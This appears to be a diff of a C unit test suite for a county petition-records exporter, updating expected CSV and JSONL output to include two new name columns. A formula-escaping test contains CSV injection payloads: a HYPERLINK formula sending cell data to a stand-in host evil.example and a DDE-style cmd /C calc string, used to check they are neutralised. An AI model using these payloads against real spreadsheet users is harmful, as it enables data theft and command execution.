@@ -29,21 +29,23 @@ static const county_testdb_matter_t s_data[] = {
 #define S_NDATA (sizeof s_data / sizeof s_data[0])
 
 static const char s_csv[] =
-    "id,occurred_on,station,township,channel,kind,persons,level,category,outcome,source,summary\n"
+    "id,occurred_on,station,township,channel,kind,persons,level,category,outcome,source,summary,"
+    "station_name,township_name\n"
     "01900000-0000-7000-8000-000000000001,2024-01-15,230523100201,230523100,letter,individual,1,"
     "city,employment,accepted,assigned,\"wages, \"\"site 3\"\"\nsecond "
-    "line\x1b[31m\"\n"
+    "line\x1b[31m\",230523100201,230523100\n"
     "01900000-0000-7000-8000-000000000002,2024-02-01,230523101201,230523101,visit,collective,12,"
-    "county,land,resolved_on_spot,leader_reception,土地承包纠纷\n"
+    "county,land,resolved_on_spot,leader_reception,土地承包纠纷,230523101201,230523101\n"
     "01900000-0000-7000-8000-000000000003,2024-02-01,230523100202,230523100,phone,individual,1,"
-    "village,other,pending,direct,noise\\\n";
+    "village,other,pending,direct,noise\\,230523100202,230523100\n";
 
 static const char s_jsonl_first[] =
     "{\"id\":\"01900000-0000-7000-8000-000000000001\",\"occurred_on\":\"2024-01-15\","
     "\"station\":\"230523100201\",\"township\":\"230523100\",\"channel\":\"letter\","
     "\"kind\":\"individual\",\"persons\":1,\"level\":\"city\","
     "\"category\":\"employment\",\"outcome\":\"accepted\",\"source\":\"assigned\","
-    "\"summary\":\"wages, \\\"site 3\\\"\\nsecond line\\u001b[31m\"}\n";
+    "\"summary\":\"wages, \\\"site 3\\\"\\nsecond line\\u001b[31m\","
+    "\"station_name\":\"230523100201\",\"township_name\":\"230523100\"}\n";
 
 typedef struct {
     char *text;
@@ -128,13 +130,13 @@ test_county_export_jsonl_lines_parse(void **state)
     assert_int_equal(s_export(*state, NULL, COUNTY_EXPORT_JSONL, &o), SJ_OK);
     assert_int_equal(o.rows, 3);
     assert_memory_equal(o.text, s_jsonl_first, strlen(s_jsonl_first));
-    /* every line is one JSON object with the 12 list columns */
+    /* every line is one JSON object with the 12 list columns and the 2 names */
     int lines = 0;
     for (char *line = o.text, *nl; (nl = strchr(line, '\n')) != NULL; line = nl + 1) {
         *nl = '\0';
         cJSON *obj = cJSON_Parse(line);
         assert_non_null(obj);
-        assert_int_equal(cJSON_GetArraySize(obj), 12);
+        assert_int_equal(cJSON_GetArraySize(obj), 14);
         assert_true(cJSON_IsNumber(cJSON_GetObjectItem(obj, "persons")));
         lines++;
         if (lines == 2) {
@@ -188,10 +190,11 @@ test_county_export_with_personal(void **state)
     county_filter_t f = {.personal = &db->kp};
     assert_int_equal(s_export(db, &f, COUNTY_EXPORT_CSV, &o), SJ_OK);
     assert_non_null(strstr(o.text, ",summary,petitioner_name,petitioner_id,petitioner_phone,"
-                                   "petitioner_address\n"));
-    assert_non_null(strstr(o.text, "\",王小明,230523199001011234,13800000000,\"村东头, 3号\"\n"));
-    assert_non_null(strstr(o.text, "土地承包纠纷,,,,\n"));
-    assert_non_null(strstr(o.text, "noise\\,(sealed to another key),,,\n"));
+                                   "petitioner_address,station_name,township_name\n"));
+    assert_non_null(strstr(o.text, "\",王小明,230523199001011234,13800000000,\"村东头, 3号\","
+                                   "230523100201,230523100\n"));
+    assert_non_null(strstr(o.text, "土地承包纠纷,,,,,230523101201,230523101\n"));
+    assert_non_null(strstr(o.text, "noise\\,(sealed to another key),,,,230523100202,230523100\n"));
     free(o.text);
     assert_int_equal(s_export(db, &f, COUNTY_EXPORT_JSONL, &o), SJ_OK);
     assert_non_null(strstr(o.text, "\"petitioner_name\":\"王小明\""));
@@ -270,8 +273,8 @@ test_county_export_csv_guards_formulas(void **state)
     s_out_t o;
     assert_int_equal(s_export(db, NULL, COUNTY_EXPORT_CSV, &o), SJ_OK);
     assert_non_null(
-        strstr(o.text, ",\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\"\n"));
-    assert_non_null(strstr(o.text, ",'@SUM(1+1)*cmd|' /C calc'!A0\n"));
+        strstr(o.text, ",\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\","));
+    assert_non_null(strstr(o.text, ",'@SUM(1+1)*cmd|' /C calc'!A0,"));
     assert_null(strstr(o.text, ",=")); /* no cell starts with = */
     assert_null(strstr(o.text, ",@"));
     char *list = NULL;
